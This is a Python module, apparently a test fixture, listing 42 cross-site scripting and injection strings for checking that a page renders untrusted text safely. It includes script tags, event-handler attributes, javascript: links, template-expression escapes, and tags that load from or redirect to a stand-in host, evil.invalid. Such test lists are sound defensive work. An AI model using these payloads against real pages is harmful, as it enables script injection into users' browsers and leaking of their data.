"""Strings that would run a script, load something or break a page, if a page took them for anything but text.

Each that runs calls `pwned(…)`, opens a dialog, or asks another host: `browser.Tab` notices all three.
"""

from __future__ import annotations

from typing import Final

ELEMENTS: Final = (
    "<script>pwned(1)</script>",
    "<ScRiPt>pwned(2)</sCrIpT>",
    "</script><script>pwned(3)</script>",
    "<img src=x onerror=pwned(4)>",
    '"><img src=x onerror=pwned(5)>',
    "'><svg onload=pwned(6)>",
    "<svg><script>pwned(7)</script></svg>",
    "<svg><animate onbegin=pwned(8) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned(9)</script>'>",
    "<iframe src=javascript:parent.pwned(10)>",
    "<body onload=pwned(11)>",
    "<input autofocus onfocus=pwned(12)>",
    "<details open ontoggle=pwned(13)>",
    "<video><source onerror=pwned(14)></video>",
    "<audio src=x onerror=pwned(15)>",
    "<object data=javascript:pwned(16)>",
    "<embed src=javascript:pwned(17)>",
    "<math><mtext><script>pwned(18)</script></mtext></math>",
    "<template><script>pwned(19)</script></template>",
    "<style>*{background:url(http://evil.invalid/20)}</style>",
    "<link rel=stylesheet href=http://evil.invalid/21>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/22'>",
    "<base href=http://evil.invalid/23>",
    "<form action=http://evil.invalid/24><button autofocus>go</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(25)>'>",
)
MARKDOWN: Final = (
    "[click](javascript:pwned(26))",
    "[click](JaVaScRiPt:pwned(27))",
    "[click](data:text/html,<script>pwned(28)</script>)",
    "![picture](http://evil.invalid/29)",
    "![x](x' onerror='pwned(30))",
    "<javascript:pwned(31)>",
    '[a](http://x/"onmouseover="pwned(32))',
    "```html\n<script>pwned(33)</script>\n```",
)
EXPRESSIONS: Final = (
    "{{constructor.constructor('pwned(34)')()}}",
    "${pwned(35)}",
    "javascript:pwned(36)",
    "'-pwned(37)-'",
    "__proto__",
    "&lt;script&gt;pwned(39)&lt;/script&gt;",
    "\u202etxt.exe pwned(40)",
    # No attack on the browser, but on the layout: long, without a place to break; from right to left.
    "W" * 250,
    "\u05e9\u05dc\u05d5\u05dd-<b>\u05e2\u05d5\u05dc\u05dd</b>",
)
PAYLOADS: Final = (*ELEMENTS, *MARKDOWN, *EXPRESSIONS)
assert len(PAYLOADS) == 42
